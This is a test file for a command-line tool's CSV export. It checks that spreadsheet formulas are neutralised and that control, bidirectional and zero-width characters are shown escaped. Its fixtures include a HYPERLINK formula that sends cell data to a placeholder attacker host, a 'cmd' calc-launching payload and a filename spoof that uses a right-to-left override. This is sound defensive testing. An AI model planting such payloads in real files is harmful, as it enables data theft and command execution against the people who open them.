/**
 * SPEC §6: every CSV output is RFC 4180 and neutralises spreadsheet formulas; control characters,
 * bidirectional overrides and zero-width characters from data are shown escaped, in CSV, tables
 * and errors alike.
 */
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from '../../src/cli/csv.js';
import { sanitizeCell } from '../../src/cli/render.js';

describe('csvCell: formula injection', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(1,2)', `"'@SUM(1,2)"`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('%j is written as text', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('leaves ordinary text, numbers and empty values alone', () => {
    expect(csvCell('dave@acme.example')).toBe('dave@acme.example');
    expect(csvCell('Dave = Developer')).toBe('Dave = Developer');
    expect(csvCell(3)).toBe('3');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('')).toBe('');
  });

  it('is RFC 4180: quotes fields with commas and quotes, CRLF records', () => {
    expect(csvRow(['a,b', 'say "hi"', 'plain'])).toBe('"a,b","say ""hi""",plain\r\n');
  });

  it('never lets raw escape bytes or invisible characters through; a line break is data, quoted', () => {
    const row = csvRow(['x\u001b[31mred\u0007', 'admin\u202egnp.exe', 'ali\u200bce', '\ufeffbom', '\u009bc1']);
    // eslint-disable-next-line no-control-regex
    expect(/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/.test(row.slice(0, -2))).toBe(false);
    expect(row).toBe('x\\x1b[31mred\\x07,admin\\u202egnp.exe,ali\\u200bce,\\ufeffbom,\\x9bc1\r\n');
    expect(csvRow(['First line\nsecond line', 'a\tb'])).toBe('"First line\nsecond line",a\tb\r\n');
  });
});

describe('sanitizeCell: what tables, key/value output and errors show', () => {
  it.each([
    ['\u202a', '\\u202a'],
    ['\u202b', '\\u202b'],
    ['\u202c', '\\u202c'],
    ['\u202d', '\\u202d'],
    ['\u202e', '\\u202e'],
    ['\u2066', '\\u2066'],
    ['\u2067', '\\u2067'],
    ['\u2068', '\\u2068'],
    ['\u2069', '\\u2069'],
    ['\u200b', '\\u200b'],
    ['\u200c', '\\u200c'],
    ['\u200d', '\\u200d'],
    ['\u2060', '\\u2060'],
    ['\ufeff', '\\ufeff'],
    ['\u001b', '\\x1b'],
    ['\u009b', '\\x9b'],
  ])('%j is escaped', (c, shown) => {
    expect(sanitizeCell(`a${c}b`)).toBe(`a${shown}b`);
  });

  it('keeps accents, CJK and emoji', () => {
    expect(sanitizeCell('José 山田 🙂')).toBe('José 山田 🙂');
  });
});
